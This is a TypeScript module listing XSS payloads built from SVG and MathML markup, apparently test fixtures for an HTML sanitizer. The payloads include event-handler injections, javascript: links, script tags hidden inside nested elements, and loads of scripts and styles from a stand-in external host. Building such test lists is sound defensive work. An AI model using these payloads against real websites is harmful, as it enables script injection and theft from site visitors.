import { ACT, ELSEWHERE, of, type Payload } from './payload.ts';

export const SVGS: readonly Payload[] = of('svg', [
  `<svg onload=${ACT}>`,
  `<svg/onload=${ACT}//>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><script href="data:,${ACT}"/></svg>`,
  `<svg><script xlink:href="${ELSEWHERE}/a.js"></script></svg>`,
  `<svg><script>&#119;indow.hacked=1</script></svg>`,
  `<svg><a href="javascript:${ACT}"><text y=20>Les mer</text></a></svg>`,
  `<svg><a xlink:href="javascript:${ACT}"><text y=20>Les mer</text></a></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${ACT}"/><text y=20>Les mer</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${ACT}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${ACT}'/>#x"/></svg>`,
  `<svg><image href="${ELSEWHERE}/a.png" onerror=${ACT} /></svg>`,
  `<svg><feImage href="${ELSEWHERE}/a.svg"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import "${ELSEWHERE}/a.css";</style></svg>`,
  `<svg><title><img src=x onerror=${ACT}></title></svg>`,
  `<svg><desc><script>${ACT}</script></desc></svg>`,
  `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${ACT}</x:script></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${ACT}</handler></svg>`,
]);

export const MATHS: readonly Payload[] = of('math', [
  `<math href="javascript:${ACT}">Les mer</math>`,
  `<math><maction actiontype="statusline#${ELSEWHERE}" xlink:href="javascript:${ACT}">Les mer</maction></math>`,
  `<math><mtext><script>${ACT}</script></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><script>${ACT}</script></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=${ACT}></annotation-xml></math>`,
  `<math><semantics><annotation><svg onload=${ACT}></annotation></semantics></math>`,
  `<math><mi xlink:href="data:x,<script>${ACT}</script>">x</mi></math>`,
  `<math><mglyph src="${ELSEWHERE}/a.png"/></math>`,
  `<math><style>*{display:none}</style></math>`,
  `<math><mrow onclick=${ACT}><mi>x</mi></mrow></math>`,
]);
